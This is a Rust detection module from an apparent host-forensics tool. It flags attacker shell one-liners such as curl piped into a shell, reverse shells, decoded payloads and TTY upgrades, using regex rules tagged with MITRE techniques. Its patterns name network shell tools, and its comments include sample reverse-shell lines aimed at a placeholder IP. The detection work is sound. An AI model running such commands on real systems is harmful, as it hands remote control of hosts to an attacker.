//! Attacker tradecraft in shell commands: download-and-execute, reverse shells, encoded
//! payloads run by a shell, and TTY upgrades.
//!
//! Reads `run` events that carry a `cmd` attribute (shell history, auditd, sudo, and any
//! other source of command lines) and the commands of cron jobs and systemd units (a
//! reverse shell or a download piped into a shell is as bad scheduled as typed). Each
//! command is matched against the [`RULES`] below; a command raises only its most severe
//! matching rules, and the same command seen several times is one alarm that references
//! every occurrence. A second pass follows the commands of each history file in order to
//! catch a file downloaded with curl/wget and then run (see `download_exec`).
//!
//! Download piped into a shell is High when the source looks throwaway (plain http/ftp,
//! an IP address, certificate checks turned off, no URL at all) and Medium for an https
//! URL on a named host, which is how many legitimate installers are distributed.

use super::commands::carries_command;
use super::commands::{command_lines, where_};
use crate::{Detector, mitre, shorten};
use regex::Regex;
use riposte_model::{Action, Alarm, Event, Severity};
use std::collections::BTreeMap;
use std::sync::LazyLock;

mod download_exec;

/// A shell, possibly by path: `sh`, `bash`, `/bin/dash`, `zsh`, `ksh`.
const SH: &str = r"(?:/\S*/)?(?:ba|da|k|z)?sh\b";
/// A pipe into a shell, possibly through sudo: `| sh`, `| sudo -E bash`.
const PIPE_SH: &str = r"\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:ba|da|k|z)?sh\b";
/// A decoder: `base64 -d`, `base64 --decode`, `openssl base64 -d`, `xxd -r`.
const DECODE: &str = r"(?:\bbase(?:64|32)\s+(?:-[a-zA-Z]*[dD]\b|--decode)|\bopenssl\s+(?:enc\s+)?-?base64\s+-d|\bxxd\s+-r)";

/// One detection rule.
struct Rule {
    /// Becomes the alarm's `detector`.
    id: &'static str,
    title: &'static str,
    why: &'static str,
    severity: Severity,
    mitre: &'static [(&'static str, &'static str)],
    /// The rule matches when, for any alternative, all its patterns match.
    /// `{SH}`, `{PIPE_SH}` and `{DECODE}` stand for the fragments above.
    alternatives: &'static [&'static [&'static str]],
}

const RULES: &[Rule] = &[
    Rule {
        id: "download_pipe_shell",
        title: "Download piped into a shell",
        why: "Content fetched from the network was run by a shell without ever touching disk, \
              the usual way droppers and miners are installed.",
        severity: Severity::High, // Medium for https on a named host, see `download_severity`.
        mitre: &[("execution", "T1059.004"), ("command-and-control", "T1105")],
        alternatives: &[
            &[r"\b(?:curl|wget|fetch)\b(?:[^|;&]|&[^&|])*{PIPE_SH}"],
            &[
                r#"(?:\b(?:ba|da|k|z)?sh|\bsource|(?:^|[;&|]\s*)\.)\s+(?:-\w+\s+)*(?:<|["']?\$)\(\s*(?:curl|wget)\b"#,
            ],
            &[r#"\beval\s+["']?\$\(\s*(?:curl|wget)\b"#],
        ],
    },
    Rule {
        id: "reverse_shell",
        title: "Reverse shell",
        why: "A shell was wired to a network connection, giving a remote party interactive control of the host.",
        severity: Severity::High,
        // T1095: the shell travels over a raw TCP/UDP socket, not an application protocol.
        mitre: &[("execution", "T1059.004"), ("command-and-control", "T1095")],
        alternatives: &[
            &[r"/dev/(?:tcp|udp)/[^/\s]+/\d+"],
            // gawk's network special files: `awk 'BEGIN{s="/inet/tcp/0/10.0.0.1/4242"…'`.
            &[r"/inet/(?:tcp|udp)/\d+/[^/\s]+/\d+"],
            // `nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445`: commands in, output out.
            &[r"\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^|;&]*\d\s*{PIPE_SH}"],
            &[
                r#"\b(?:nc|ncat|netcat)(?:\.\w+)?\s(?:.*\s)?(?:-[a-zA-Z]*[ec]\s*["']?{SH}|--(?:sh-|lua-)?exec\b)"#,
            ],
            &[r"(?i)\bsocat\b.*\b(?:exec|system):"],
            &[
                r"\bmk(?:fifo|nod)\b",
                r"\b(?:nc|ncat|netcat|telnet)\b|\bopenssl\s+s_client\b",
                r"(?:^|[\s/|;&])(?:ba|da|k|z)?sh\b",
            ],
            &[r"\btelnet\b.*{PIPE_SH}.*\|\s*telnet\b"],
            &[r"\bopenssl\s+s_client\b.*{PIPE_SH}"],
        ],
    },
    Rule {
        id: "script_reverse_shell",
        title: "Scripted reverse shell",
        why: "A one-line script opened a socket and handed it a shell or command execution.",
        severity: Severity::High,
        mitre: &[("execution", "T1059")],
        alternatives: &[
            &[
                r"\bpython[0-9.]*\b",
                r"\bsocket\b",
                r"\.connect\(",
                r"\bdup2\b|\bpty\.spawn\b|\bsubprocess\b|/bin/(?:ba)?sh|\bos\.system\b|\bpopen\b",
            ],
            &[
                r"\bperl\b",
                r"(?i)\bsocket\b|IO::Socket",
                r"\bexec\b|\bsystem\b|/bin/(?:ba)?sh|open\s*\(\s*STD",
            ],
            &[
                r"\bphp\b",
                r"\bfsockopen\b|\bstream_socket_client\b",
                r"\b(?:exec|shell_exec|system|passthru|popen|proc_open)\b|/bin/(?:ba)?sh",
            ],
            &[
                r"\bruby\b",
                r"\bTCPSocket\b|\bSocket\.new\b",
                r"\b(?:exec|system|spawn|popen)\b|/bin/(?:ba)?sh",
            ],
            &[
                r"\bnode\b",
                r#"\bnet\.Socket\b|require\(\s*["']net["']\s*\)|\bnet\.connect\b"#,
                r"\bchild_process\b|/bin/(?:ba)?sh",
            ],
        ],
    },
    Rule {
        id: "encoded_payload_shell",
        title: "Encoded payload run by a shell",
        why: "An encoded blob was decoded and executed, hiding the real commands from a casual reader.",
        severity: Severity::High,
        mitre: &[("execution", "T1059.004"), ("defense-evasion", "T1140")],
        alternatives: &[
            &[r"{DECODE}.*{PIPE_SH}"],
            &[r#"\b(?:ba|da|k|z)?sh\s+-c\s+["']?\$\(.*{DECODE}"#],
            &[r"\beval\b.*{DECODE}"],
            &[r"\bexec\s*\(.*\bb64decode\b"],
        ],
    },
    Rule {
        id: "tty_upgrade",
        title: "Shell upgraded to a TTY",
        why: "A pseudo-terminal was spawned for a shell, a common step right after catching a reverse shell.",
        severity: Severity::Medium,
        mitre: &[("execution", "T1059.006")],
        alternatives: &[
            &[r"\bpty\.spawn\s*\("],
            &[r#"\bscript\s+-q?c\s+["']?{SH}.*/dev/null"#],
        ],
    },
];

/// Per rule, per alternative, the compiled patterns.
static COMPILED: LazyLock<Vec<Vec<Vec<Regex>>>> = LazyLock::new(|| {
    RULES
        .iter()
        .map(|rule| {
            let compile = |p: &str| {
                let p = p
                    .replace("{PIPE_SH}", PIPE_SH)
                    .replace("{SH}", SH)
                    .replace("{DECODE}", DECODE);
                Regex::new(&p).unwrap_or_else(|e| {
                    panic!("built-in pattern of rule {} is invalid: {e}", rule.id)
                })
            };
            rule.alternatives
                .iter()
                .map(|alt| alt.iter().map(|p| compile(p)).collect())
                .collect()
        })
        .collect()
});

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(https?|ftp)://([^/\s"'?#|;&)]+)"#).expect("valid URL pattern")
});

/// Detects attacker one-liners in command lines.
#[derive(Debug, Clone, Copy, Default)]
pub struct ShellHistory;

impl Detector for ShellHistory {
    fn name(&self) -> &'static str {
        "shell_history"
    }

    fn wants(&self, e: &Event) -> bool {
        carries_command(e)
    }

    fn detect(&self, events: &[Event]) -> Vec<Alarm> {
        // (rule, command) → occurrences, in first-seen order.
        let mut hits: BTreeMap<(usize, &str), Vec<usize>> = BTreeMap::new();
        let mut order = Vec::new();
        for (index, cmd) in command_lines(events).map(|c| (c.index, c.text)) {
            let matched: Vec<usize> = (0..RULES.len()).filter(|&r| matches(r, cmd)).collect();
            let top = matched.iter().map(|&r| severity(r, cmd)).max();
            for r in matched
                .into_iter()
                .filter(|&r| Some(severity(r, cmd)) == top)
            {
                let seen = hits.entry((r, cmd)).or_default();
                if seen.is_empty() {
                    order.push((r, cmd));
                }
                seen.push(index);
            }
        }
        let mut alarms: Vec<Alarm> = order
            .into_iter()
            .map(|key| alarm(key.0, key.1, &hits[&key], events))
            .collect();
        alarms.extend(download_exec::detect(events));
        alarms
    }
}

/// `(index, cmd)` of every `run` event with a command line (what `download_exec` follows).
fn commands(events: &[Event]) -> impl Iterator<Item = (usize, &str)> {
    events
        .iter()
        .enumerate()
        .filter(|(_, e)| e.action == Action::ProcessRun)
        .filter_map(|(i, e)| e.attr("cmd").map(|cmd| (i, cmd)))
}

fn matches(rule: usize, cmd: &str) -> bool {
    COMPILED[rule]
        .iter()
        .any(|alt| alt.iter().all(|re| re.is_match(cmd)))
}

fn severity(rule: usize, cmd: &str) -> Severity {
    match RULES[rule].id {
        "download_pipe_shell" => download_severity(cmd),
        _ => RULES[rule].severity,
    }
}

/// High unless every URL in the command is https on a named host with checks on.
pub(crate) fn download_severity(cmd: &str) -> Severity {
    let insecure_flag = cmd.split_ascii_whitespace().any(|w| {
        matches!(w, "-k" | "--insecure" | "--no-check-certificate")
            || (w.starts_with('-') && !w.starts_with("--") && w.contains('k') && w.len() <= 6)
    });
    let mut urls = URL.captures_iter(cmd).peekable();
    if insecure_flag || urls.peek().is_none() {
        return Severity::High;
    }
    let throwaway = urls.any(|c| {
        let host = c[2].rsplit('@').next().unwrap_or(&c[2]);
        let host = host
            .trim_start_matches('[')
            .split(']')
            .next()
            .unwrap_or(host);
        let host_only = host
            .rsplit_once(':')
            .filter(|(h, p)| !h.contains(':') && p.bytes().all(|b| b.is_ascii_digit()));
        let host = host_only.map_or(host, |(h, _)| h);
        !c[1].eq_ignore_ascii_case("https") || host.parse::<std::net::IpAddr>().is_ok()
    });
    if throwaway {
        Severity::High
    } else {
        Severity::Medium
    }
}

fn alarm(rule: usize, cmd: &str, occurrences: &[usize], events: &[Event]) -> Alarm {
    let r = &RULES[rule];
    let first = &events[occurrences[0]];
    let who = first
        .attr("username")
        .map(|u| format!(" by {u}"))
        .unwrap_or_default();
    let times = match occurrences.len() {
        1 => String::new(),
        n => format!(" Seen {n} times."),
    };
    Alarm {
        detector: r.id.into(),
        title: shorten(&format!("{}{who}: {cmd}", r.title), 160),
        description: format!(
            "{} Command: `{}` ({}).{times}",
            r.why,
            shorten(cmd, 2000),
            where_(first)
        ),
        severity: severity(rule, cmd),
        mitre: r
            .mitre
            .iter()
            .map(|(tactic, technique)| mitre(tactic, technique))
            .collect(),
        event_refs: occurrences.iter().take(50).map(|&i| i as u64).collect(),
        rule_id: None,
        files: Vec::new(),
        hunting: false,
    }
}

#[cfg(test)]
mod tests;
